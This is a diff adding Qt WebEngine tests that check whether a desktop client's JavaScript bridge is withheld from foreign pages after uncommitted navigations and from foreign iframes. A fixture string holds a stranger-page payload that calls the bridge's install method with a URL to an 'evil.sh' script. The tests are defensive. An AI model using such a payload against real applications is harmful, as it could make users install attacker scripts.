@@ -5,6 +5,7 @@
 #include "push/bridge/BridgedPage.h"
 #include "push/bridge/QJsInterface.h"
 #include "tests/desktop/DeskFixture.h"
+#include "tests/support/LoopbackSite.h"
 
 #include <QJsonArray>
 #include <QJsonDocument>
@@ -25,6 +26,9 @@ private slots:
     void pageCallReachesReceiver();
     void scriptTextsArriveIntact();
     void foreignPageGetsNoBridge();
+    void uncommittedNavigationLeavesNoBridge_data();
+    void uncommittedNavigationLeavesNoBridge();
+    void strangerFrameInOurPageGetsNoBridge();
     void newWindowLinkStaysInBrowser();
     void escapeAndMaximiseButton();
     void desktopOpensWebAppsAndShippedPages();
@@ -38,14 +42,25 @@ private:
     QString m_foreign;
 };
 
+// The transport comes once the page is in place: the page looks for it
+// for two seconds before it says it has none.
 static const char kBridgeScript[] =
     "<script src=\"qwebchannel.js\"></script>\n"
     "<script>\n"
     "window.got = [];\n"
     "function echo() { window.got.push(Array.prototype.slice.call(arguments)); document.title = 'echo' + window.got.length; }\n"
-    "if (typeof qt === 'undefined' || !qt.webChannelTransport) { document.title = 'nobridge'; }\n"
-    "else new QWebChannel(qt.webChannelTransport, function(ch) { window.bridge = ch.objects.QJsInterface; document.title = 'bridged'; });\n"
+    "(function look(tries) {\n"
+    "  if (typeof qt !== 'undefined' && qt.webChannelTransport)\n"
+    "    new QWebChannel(qt.webChannelTransport, function(ch) { window.bridge = ch.objects.QJsInterface; document.title = 'bridged'; });\n"
+    "  else if (tries < 80) setTimeout(function () { look(tries + 1); }, 25);\n"
+    "  else document.title = 'nobridge';\n"
+    "})(0);\n"
     "</script>\n";
+
+// What a stranger's page does with the bridge the moment it has it.
+static const char kStrangerCalls[] =
+    "b.install('{\"data\":{\"cate_id\":\"c4\",\"app_id\":\"a999\",\"type\":\"2\","
+    "\"url\":\"' + location.origin + '/evil.sh\"}}');";
 
 QString TestBridgeWeb::writePage(const QString &dir, const QString &name, const QByteArray &body)
 {
@@ -162,6 +177,104 @@ void TestBridgeWeb::foreignPageGetsNoBridge()
     view.load(QUrl::fromLocalFile(m_client + "/bridge.html"));
     QTRY_COMPARE_WITH_TIMEOUT(view.title(), QString("bridged"), 20000);
     QVERIFY(page->isBridged());
+}
+
+void TestBridgeWeb::uncommittedNavigationLeavesNoBridge_data()
+{
+    QTest::addColumn<QString>("target");
+    QTest::addColumn<bool>("byScript");
+    QTest::addColumn<bool>("cancel");
+    // The stranger's own page sends the view to an address of the service
+    // whose answer never becomes a document, or the client loads one.
+    QTest::newRow("204 from the page") << "/nothing" << true << false;
+    QTest::newRow("download from the page") << "/setup.exe" << true << false;
+    QTest::newRow("cancelled by the page") << "/slow.html" << true << true;
+    QTest::newRow("204 loaded by the client") << "/nothing" << false << false;
+}
+
+void TestBridgeWeb::uncommittedNavigationLeavesNoBridge()
+{
+    QFETCH(QString, target);
+    QFETCH(bool, byScript);
+    QFETCH(bool, cancel);
+    LoopbackSite service;
+    LoopbackSite stranger;
+    QVERIFY(service.isListening() && stranger.isListening());
+    LoopbackSite::Answer nothing;
+    nothing.status = 204;
+    service.put("/nothing", nothing);
+    LoopbackSite::Answer download;
+    download.contentType = "application/octet-stream";
+    download.headers = {{"Content-Disposition", "attachment; filename=\"setup.exe\""}};
+    download.body = QByteArray(4096, 'M');
+    service.put("/setup.exe", download);
+    LoopbackSite::Answer slow;
+    slow.delayMs = 5000;
+    slow.body = "<title>slow</title>";
+    service.put("/slow.html", slow);
+    QVERIFY(stranger.putClientFile("/qwebchannel.js", "qwebchannel.js", "application/javascript"));
+    stranger.putPage("/evil.html", LoopbackSite::strangerPage(kStrangerCalls));
+
+    BridgeOrigins origins(m_client);
+    origins.allowAddress(service.origin());
+    QWebEngineView view;
+    auto *page = new BridgedPage(origins, &view);
+    view.setPage(page);
+    view.show();
+    QTest::ignoreMessage(QtWarningMsg, QRegularExpression("no bridge for .*evil.html"));
+    QSignalSpy loaded(page, &QWebEnginePage::loadFinished);
+    view.load(QUrl(stranger.url("/evil.html")));
+    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QString("stranger"), 20000);
+    QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), 20000);
+    // Looked at and refused before anything else happens.
+    QTest::qWait(300);
+
+    QSignalSpy install(QJsInterface::instance(), &QJsInterface::sigInstall);
+    const QString address = service.url(target);
+    if (byScript) {
+        evaluate(page, QStringLiteral("location.href = '%1'; %2; true")
+                           .arg(address, cancel ? QStringLiteral("setTimeout(function () { window.stop(); }, 300)")
+                                                : QString()));
+    } else {
+        view.load(QUrl(address));
+    }
+    QTRY_VERIFY_WITH_TIMEOUT(service.requested().contains(target), 20000);
+    // Time for a transport to show up and for the page to use it.
+    QTest::qWait(1500);
+    QCOMPARE(evaluate(page, "document.title + (window.sawTransport ? ' saw the bridge' : '')").toString(),
+             QString("stranger"));
+    QCOMPARE(evaluate(page, "typeof qt === 'undefined' ? 'none' : typeof qt.webChannelTransport").toString(),
+             QString("none"));
+    QVERIFY(!page->isBridged());
+    QCOMPARE(install.count(), 0);
+    QCOMPARE(view.url(), QUrl(stranger.url("/evil.html")));
+}
+
+void TestBridgeWeb::strangerFrameInOurPageGetsNoBridge()
+{
+    LoopbackSite service;
+    LoopbackSite stranger;
+    QVERIFY(service.isListening() && stranger.isListening());
+    QVERIFY(service.putClientFile("/qwebchannel.js", "qwebchannel.js", "application/javascript"));
+    QVERIFY(stranger.putClientFile("/qwebchannel.js", "qwebchannel.js", "application/javascript"));
+    stranger.putPage("/evil.html", LoopbackSite::strangerPage(kStrangerCalls));
+    service.putPage("/store.html", QByteArray("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>loading</title></head><body>\n")
+                                       + kBridgeScript + "<iframe src=\"" + stranger.url("/evil.html").toUtf8()
+                                       + "\"></iframe></body></html>\n");
+    BridgeOrigins origins(m_client);
+    origins.allowAddress(service.origin());
+    QWebEngineView view;
+    auto *page = new BridgedPage(origins, &view);
+    view.setPage(page);
+    view.show();
+    QSignalSpy install(QJsInterface::instance(), &QJsInterface::sigInstall);
+    view.load(QUrl(service.url("/store.html")));
+    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QString("bridged"), 20000);
+    QTRY_VERIFY_WITH_TIMEOUT(stranger.requested().contains("/qwebchannel.js"), 20000);
+    QTest::qWait(1500);
+    // Our page has the bridge; the stranger's frame inside it does not.
+    QVERIFY(page->isBridged());
+    QCOMPARE(install.count(), 0);
 }
 
 void TestBridgeWeb::newWindowLinkStaysInBrowser()
